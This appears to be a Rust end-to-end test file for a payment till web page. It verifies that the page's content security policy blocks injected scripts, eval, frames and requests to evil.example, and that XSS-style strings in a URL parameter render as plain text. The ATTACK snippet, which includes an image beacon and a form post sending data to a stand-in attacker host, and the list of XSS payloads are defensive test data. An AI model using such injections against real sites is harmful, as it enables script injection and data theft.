//! Lines 2, 18 and 21 of the security checklist: what a script or a text that came in by some way can do on the till's page.

use anyhow::{Result, ensure};
use scantill_e2e::World;
use scantill_e2e::patience::until;

const CODE: &str = "28763443825664394";

/// What got through is in `ran`, what was stopped in `blocked`.
const ATTACK: &str = r#"
    window.ran = [];
    window.blocked = [];
    addEventListener('securitypolicyviolation', event => blocked.push(`${event.effectiveDirective} ${event.blockedURI}`));
    const add = (tag, words) => document.body.append(Object.assign(document.createElement(tag), words));
    add('script', { textContent: "ran.push('inline')" });
    add('script', { src: 'https://evil.example/x.js' });
    add('script', { src: "data:text/javascript,ran.push('data')" });
    add('div', { innerHTML: "<img src='data:,' onerror=\"ran.push('handler')\">" });
    add('iframe', { src: 'https://evil.example/' });
    add('img', { src: 'https://evil.example/?stolen' });
    setTimeout("ran.push('eval')");
    fetch('https://api.omise.co/account').then(() => ran.push('fetch'), () => {});
    const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/', target: 'other' });
    document.body.append(form);
    form.submit();
"#;
const STOPPED: [&str; 9] = [
    "script-src-elem inline",
    "script-src-elem https://evil.example/x.js",
    "script-src-elem data",
    "script-src-attr inline",
    "frame-src https://evil.example",
    "img-src https://evil.example/?stolen",
    "script-src eval",
    "connect-src https://api.omise.co/account",
    "form-action https://evil.example/",
];

#[tokio::test]
async fn injected_scripts_handlers_eval_and_foreign_calls_are_blocked() -> Result<()> {
    let world = World::start().await?;
    world.open("/?amount=2225&reference=inv-1").await?.shows("scan").await?;
    world.run(ATTACK).await?;
    let mut blocked = String::new();
    let all = until("every attempt is blocked", async || {
        blocked = world.run("return blocked.join('\\n')").await?.as_str().unwrap_or_default().to_owned();
        Ok(STOPPED.iter().all(|stopped| blocked.contains(stopped)).then_some(()))
    });
    let all = all.await;
    ensure!(all.is_ok(), "blocked is: {blocked}");
    let ran = world.run("return ran.join()").await?;
    ensure!(ran.as_str() == Some(""), "{ran} ran");
    world.close();
    Ok(())
}

#[tokio::test]
async fn a_whole_sale_asks_for_nothing_that_the_policy_forbids() -> Result<()> {
    let world = World::start().await?;
    let listen = "window.blocked = []; addEventListener('securitypolicyviolation', event => blocked.push(event.blockedURI))";
    world.browser().before_load(listen).await?;
    let till = world.open("/?amount=2225&reference=inv-1").await?;
    till.shows("scan").await?;
    till.scan(CODE).await?;
    till.shows("paid").await?;
    let blocked = world.run("return blocked.join()").await?;
    ensure!(blocked.as_str() == Some(""), "blocked: {blocked}");
    world.close();
    Ok(())
}

const PAYLOADS: [&str; 8] = [
    "<img src=x onerror=ran()>",
    "<svg onload=ran()>",
    "<script>ran()</script>",
    "\"><iframe src=javascript:ran()>",
    "' onmouseover='ran()",
    "javascript:ran()",
    "&lt;b&gt;{{7*7}}${7*7}",
    "</p></div><h1 id=injected>",
];
const ELEMENTS: &str = "const root = document.querySelector('#till').shadowRoot;
    return root.querySelectorAll('img, script, iframe, object, embed, [onerror], [onload], [onmouseover], #injected').length";

#[tokio::test]
async fn texts_that_look_like_markup_are_shown_and_become_no_element() -> Result<()> {
    let world = World::start().await?;
    world.browser().before_load("window.ran = () => document.title = 'ran'").await?;
    for payload in PAYLOADS {
        let bytes = payload.bytes().flat_map(|byte| format!("%{byte:02x}").into_bytes());
        let encoded: String = bytes.map(char::from).collect();
        let till = world.open(&format!("/?amount=2225&reference={encoded}")).await?;
        till.shows("scan").await?;
        let shown = till.text(".till").await?;
        ensure!(shown.contains(payload), "{payload} is not shown: {shown}");
        let found = world.run(ELEMENTS).await?;
        ensure!(found.as_u64() == Some(0), "{payload} became {found} elements");
        let title = world.run("return document.title").await?;
        ensure!(title.as_str() != Some("ran"), "{payload} ran");
    }
    world.close();
    Ok(())
}
